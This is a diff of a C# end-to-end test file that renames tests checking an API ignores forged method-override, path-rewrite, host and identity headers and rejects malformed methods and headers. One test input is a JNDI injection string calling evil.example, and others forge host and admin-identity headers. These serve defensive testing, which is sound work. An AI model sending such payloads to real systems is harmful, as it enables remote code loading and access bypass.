@@ -1,15 +1,15 @@
 namespace EndToEnd.Tests.Hostile;
 
-/// <summary>Headers and methods by which a client says that it is, or means, something else.</summary>
+/// <summary>Headers and methods by which a client claims another identity, path or method.</summary>
 [Collection(SystemFixture.Registering)]
-public sealed class PretenceTests(SystemFixture system)
+public sealed class ForgedHeaderTests(SystemFixture system)
 {
     [Theory]
     [InlineData("X-HTTP-Method-Override: DELETE")]
     [InlineData("X-HTTP-Method: DELETE")]
     [InlineData("X-Method-Override: DELETE")]
     [InlineData("X_HTTP_METHOD_OVERRIDE: DELETE")]
-    public async Task A_verb_is_not_overridden(string header)
+    public async Task Method_is_not_overridden(string header)
     {
         Assert.Equal(200, (await system.SendAsync("GET", "/api/users/1", null, header)).Status);
         (await system.SendAsync("POST", "/api/users/1", [], header)).AssertProblem(405, "Method not allowed");
@@ -21,7 +21,7 @@ public sealed class PretenceTests(SystemFixture system)
     [InlineData("X-Rewrite-URL: /api/users/1")]
     [InlineData("X-Forwarded-Prefix: /api/users")]
     [InlineData("X-Forwarded-Path: /api/users/1")]
-    public async Task An_address_is_not_overridden(string header) =>
+    public async Task Path_is_not_overridden(string header) =>
         (await system.SendAsync("GET", "/nothing", null, header)).AssertProblem(404, "Not found");
 
     [Theory]
@@ -31,7 +31,7 @@ public sealed class PretenceTests(SystemFixture system)
     [InlineData("X-Original-Host: evil.example")]
     [InlineData("X-Host: evil.example")]
     [InlineData("X-Forwarded-Server: evil.example")]
-    public async Task The_pages_name_no_host_that_a_client_made_up(params string[] headers)
+    public async Task Pages_do_not_repeat_a_forged_host(params string[] headers)
     {
         foreach (var page in new[] { "/", "/docs" })
         {
@@ -48,7 +48,7 @@ public sealed class PretenceTests(SystemFixture system)
     [InlineData("X-Traffic-Class: probe")]
     [InlineData("X-User: admin")]
     [InlineData("X-Auth-Request-User: admin")]
-    public async Task Who_the_client_says_it_is_changes_no_answer(string header)
+    public async Task Claimed_identity_changes_no_response(string header)
     {
         Assert.Equal(200, (await system.SendAsync("GET", "/api/users/1", null, header)).Status);
         (await system.SendAsync("GET", "/internal/info", null, header)).AssertProblem(404, "Not found");
@@ -59,7 +59,7 @@ public sealed class PretenceTests(SystemFixture system)
     [InlineData("PROPFIND")]
     [InlineData("BREW")]
     [InlineData("PATCH")]
-    public async Task A_method_that_the_list_does_not_have_is_refused(string method)
+    public async Task Unsupported_method_is_refused_with_the_allowed_ones(string method)
     {
         var reply = await system.SendAsync(method, "/api/users");
 
@@ -72,7 +72,7 @@ public sealed class PretenceTests(SystemFixture system)
     [InlineData("head")]
     [InlineData("Delete")]
     [InlineData("pATCH")]
-    public async Task A_method_in_small_letters_is_none(string method)
+    public async Task Lower_case_method_is_refused(string method)
     {
         (await system.SendAsync(method, "/api/users/1")).AssertProblem(400, "Bad request");
 
@@ -90,7 +90,7 @@ public sealed class PretenceTests(SystemFixture system)
     [InlineData("Cookie: a=b; ;=;\u00ff")]
     [InlineData("traceparent: 00-ffffffffffffffffffffffffffffffff-ffffffffffffffff-ff")]
     [InlineData("X-Request-Id: ${jndi:ldap://evil.example/x}")]
-    public async Task A_header_of_nonsense_harms_nobody(params string[] headers)
+    public async Task Nonsense_header_changes_no_response(params string[] headers)
     {
         var reply = await system.SendAsync("GET", "/api/users/1", null, headers);
 
@@ -99,7 +99,7 @@ public sealed class PretenceTests(SystemFixture system)
     }
 
     [Fact]
-    public async Task What_a_client_sends_as_a_request_id_is_kept_only_when_it_is_one()
+    public async Task Request_id_of_the_client_is_kept_only_if_sent_once()
     {
         var one = await system.SendAsync("GET", "/", null, "X-Request-Id: mine-1");
         var two = await system.SendAsync("GET", "/", null, "X-Request-Id: mine-1", "X-Request-Id: mine-2");
